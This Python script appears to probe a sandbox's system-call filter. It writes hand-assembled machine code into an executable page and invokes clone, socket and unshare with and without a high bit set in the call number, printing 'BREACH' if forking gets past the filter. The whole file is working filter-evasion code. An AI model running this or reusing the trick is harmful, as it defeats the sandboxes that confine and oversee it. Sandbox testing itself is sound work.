import ctypes
import mmap
import os

# The instruction itself, so that no library stands between: number and arguments come by registers.
CODE = {
    # mov rax,rdi; mov rdi,rsi; mov rsi,rdx; xor edx,edx; xor r10,r10; xor r8,r8; syscall; ret
    "x86_64": "4889f8 4889f7 4889d6 31d2 4d31d2 4d31c0 0f05 c3",
    # mov x8,x0; mov x0,x1; mov x1,x2; mov x2..x4,xzr; svc 0; ret
    "aarch64": "e80300aa e00301aa e10302aa e2031faa e3031faa e4031faa 010000d4 c0035fd6",
}
MACHINE = os.uname().machine
CLONE, UNSHARE, SOCKET = {"x86_64": (56, 272, 41), "aarch64": (220, 97, 198)}[MACHINE]
SIGCHLD, NEWNET, HIGH = 17, 0x40000000, 1 << 32

page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(bytes.fromhex(CODE[MACHINE]))
place = ctypes.addressof(ctypes.c_char.from_buffer(page))
call = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_ulong, ctypes.c_long, ctypes.c_long)(place)

# The kernel looks at the lower half of a number: a filter that looked at all of it would be misled.
for high in (0, HIGH):
    child = call(CLONE + high, SIGCHLD, 0)
    if child == 0:
        os._exit(7)
    if child > 0 and os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7:
        print("BREACH forked")
    print(
        "clone",
        child,
        "socket",
        call(SOCKET + high, 1, 1),
        "unshare",
        call(UNSHARE + high, NEWNET, 0),
    )
